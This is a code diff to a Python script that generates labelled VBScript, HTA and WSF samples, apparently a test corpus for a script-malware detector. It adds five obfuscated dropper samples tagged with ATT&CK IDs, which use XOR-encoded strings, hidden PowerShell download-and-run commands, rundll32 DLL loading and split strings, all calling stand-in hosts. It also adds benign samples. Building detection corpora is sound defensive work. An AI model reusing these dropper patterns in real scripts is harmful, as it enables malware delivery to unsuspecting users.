@@ -312,6 +312,159 @@ dropper("encoded.hta", """<html><head><hta:application windowstate="minimize"/>
 """ % screnc('Set s = CreateObject("WScript.Shell")\r\ns.Run "powershell -w hidden -c iwr http://example.invalid/q.exe -OutFile $env:TEMP\\q.exe", 0\r\n'),
         ["T1105", "T1059.005", "T1059.001"], kind="vbs")
 
+# VBScript in the styles of droppers that use more of the language (issue 12).
+# 23. a class-based decoder (a common shape of VBS droppers): Class with a private key set in
+# Class_Initialize, Property Get/Let, a decoding Function; names and the URL XOR-encoded
+def vb_xor_hex(text, key):
+    return "".join("%02X" % (ord(c) ^ key) for c in text)
+
+
+dropper("decoder.vbs", """Option Explicit
+Class cDecoder
+  Private m_Key
+  Private Sub Class_Initialize()
+    m_Key = 0
+  End Sub
+  Public Property Let Key(ByVal v)
+    m_Key = v
+  End Property
+  Public Property Get Key
+    Key = m_Key
+  End Property
+  Public Function Dec(ByVal h)
+    Dim i, r
+    r = ""
+    For i = 1 To Len(h) Step 2
+      r = r & ChrW(CInt("&H" & Mid(h, i, 2)) Xor m_Key)
+    Next
+    Dec = r
+  End Function
+End Class
+Dim d, x, s
+Set d = New cDecoder
+d.Key = %d
+Set x = CreateObject(d.Dec("%s"))
+x.Open "GET", d.Dec("%s"), False
+x.Send
+Set s = CreateObject(d.Dec("%s"))
+s.Type = 1 : s.Open
+s.Write x.ResponseBody
+s.SaveToFile d.Dec("%s"), 2
+CreateObject(d.Dec("%s")).Run d.Dec("%s"), 0
+""" % (0x37, vb_xor_hex("MSXML2.XMLHTTP", 0x37), vb_xor_hex("http://example.invalid/cls.exe", 0x37),
+       vb_xor_hex("ADODB.Stream", 0x37), vb_xor_hex("C:\\Users\\Public\\cls.exe", 0x37),
+       vb_xor_hex("WScript.Shell", 0x37), vb_xor_hex("C:\\Users\\Public\\cls.exe", 0x37)),
+        ["T1105", "T1059.005", "T1204.002"], kind="vbs")
+
+# 24. a kill date as a date literal, pieces collected with ReDim Preserve, Select Case Is and
+# To, On Error Resume Next then GoTo 0, a method called without parentheses
+dropper("killdate.vbs", """Class Builder
+  Private parts()
+  Private n
+  Private Sub Class_Initialize()
+    n = -1
+    ReDim parts(0)
+  End Sub
+  Public Sub Add(p)
+    n = n + 1
+    ReDim Preserve parts(n)
+    parts(n) = p
+  End Sub
+  Public Function Text
+    Text = Join(parts, "")
+  End Function
+End Class
+On Error Resume Next
+Dim b, level, sh
+If Now > #1/1/2001# Then
+  Set b = New Builder
+  level = 7
+  Select Case level
+    Case Is < 3
+      b.Add "notepad"
+    Case 4 To 9
+      b.Add "power" : b.Add "shell -nop -w hidden -c "
+      b.Add "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/k.ps1')"
+  End Select
+  Err.Clear
+  On Error GoTo 0
+  Set sh = CreateObject("WScript.Shell")
+  sh.Run b.Text, 0, False
+End If
+""", ["T1105", "T1059.005", "T1059.001"], kind="vbs")
+
+# 25. With blocks over a class's object, nested; arguments continued over lines inside a call;
+# Property Set
+dropper("withcls.vbs", """Class Fetcher
+  Private m_http
+  Public Url, Target
+  Public Property Set Http(o)
+    Set m_http = o
+  End Property
+  Public Property Get Http
+    Set Http = m_http
+  End Property
+  Public Sub Fetch()
+    With m_http
+      .Open "GET", _
+            Url, _
+            False
+      .Send
+    End With
+  End Sub
+End Class
+Dim f
+Set f = New Fetcher
+With f
+  Set .Http = CreateObject("MSXML2.ServerXMLHTTP.6.0")
+  .Url = "http://example.invalid/" & _
+         "w.dll"
+  .Target = "C:\\ProgramData\\w.dll"
+  .Fetch
+  With CreateObject("ADODB.Stream")
+    .Type = 1
+    .Open
+    .Write f.Http.ResponseBody
+    .SaveToFile f.Target, _
+                2
+  End With
+End With
+CreateObject("WScript.Shell").Run Join(Array("rundll32", _
+    f.Target & ",DllRegisterServer"), " "), 0
+""", ["T1105", "T1059.005", "T1204.002"], kind="vbs")
+
+# 26. an HTA with both languages: JScript builds the command, VBScript calls it and runs it
+dropper("mixed.hta", """<html><head><title>Document</title>
+<HTA:APPLICATION ID="doc" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/>
+<script language="JScript">
+function buildCmd() {
+  var p = ["po", "wer", "shell -ep bypass -c ", "iwr http://example.invalid/m.exe -OutFile $env:TEMP\\\\m.exe"];
+  return p.join("");
+}
+</script>
+<script language="VBScript">
+Dim c
+c = buildCmd()
+CreateObject("WScript.Shell").Run c, 0
+self.close
+</script></head><body>Please wait...</body></html>
+""", ["T1105", "T1059.005", "T1059.007", "T1059.001"], kind="vbs")
+
+# 27. a WSF job with both: JScript fetches and saves, VBScript runs the saved file
+dropper("mixed.wsf", """<?xml version="1.0"?>
+<job id="m">
+<script language="JScript"><![CDATA[
+var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://example.invalid/j.exe", false); x.send();
+var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(x.ResponseBody);
+s.SaveToFile("C:\\\\Users\\\\Public\\\\j.exe", 2);
+]]></script>
+<script language="VBScript" src="helpers.vbs"/>
+<script language="VBScript"><![CDATA[
+CreateObject("WScript.Shell").Run "C:\\Users\\Public\\j.exe", 0
+]]></script>
+</job>
+""", ["T1105", "T1059.005", "T1059.007", "T1204.002"], kind="vbs")
+
 # Benign VBScript: a log file, a sum, a Select Case, a Dictionary, string handling.
 write(ben, "log.vbs", """Option Explicit
 Dim fso, f
@@ -319,6 +472,35 @@ Set fso = CreateObject("Scripting.FileSystemObject")
 Set f = fso.OpenTextFile("C:\\Users\\Public\\backup.log", 8, True)
 f.WriteLine "backup finished: " & Now
 f.Close
+""")
+write(ben, "stack.vbs", """Class Stack
+  Private items()
+  Private top
+  Private Sub Class_Initialize()
+    top = -1
+    ReDim items(0)
+  End Sub
+  Public Sub Push(v)
+    top = top + 1
+    ReDim Preserve items(top)
+    items(top) = v
+  End Sub
+  Public Function Pop
+    Pop = items(top)
+    top = top - 1
+  End Function
+  Public Property Get Count
+    Count = top + 1
+  End Property
+End Class
+Dim s, due
+Set s = New Stack
+s.Push "a" : s.Push "b"
+due = #2024-03-01#
+Select Case s.Count
+  Case Is > 5: WScript.Echo "many"
+  Case 1 To 5: WScript.Echo "few: " & s.Pop & ", due " & Year(due)
+End Select
 """)
 write(ben, "sum.vbs", """Dim i, total
 total = 0
@@ -418,6 +600,17 @@ var f = fso.CreateTextFile("C:\\Users\\Public\\logbook.txt", true);
 f.WriteLine("started " + new Date(2024, 0, 1).getFullYear());
 f.Close();
 </script></head><body>Logbook</body></html>
+""")
+write(hta, "calc.hta", """<html><head><title>Calculator</title>
+<HTA:APPLICATION ID="calc" APPLICATIONNAME="Sums"/>
+<script language="JScript">
+function add(a, b) { return a + b; }
+</script>
+<script language="VBScript">
+Dim total
+total = add(2, 3)
+MsgBox "total: " & total
+</script></head><body>Sums</body></html>
 """)
 write(ben, "inventory.wsf", """<?xml version="1.0"?>
 <package><job id="inventory"><script language="JScript"><![CDATA[
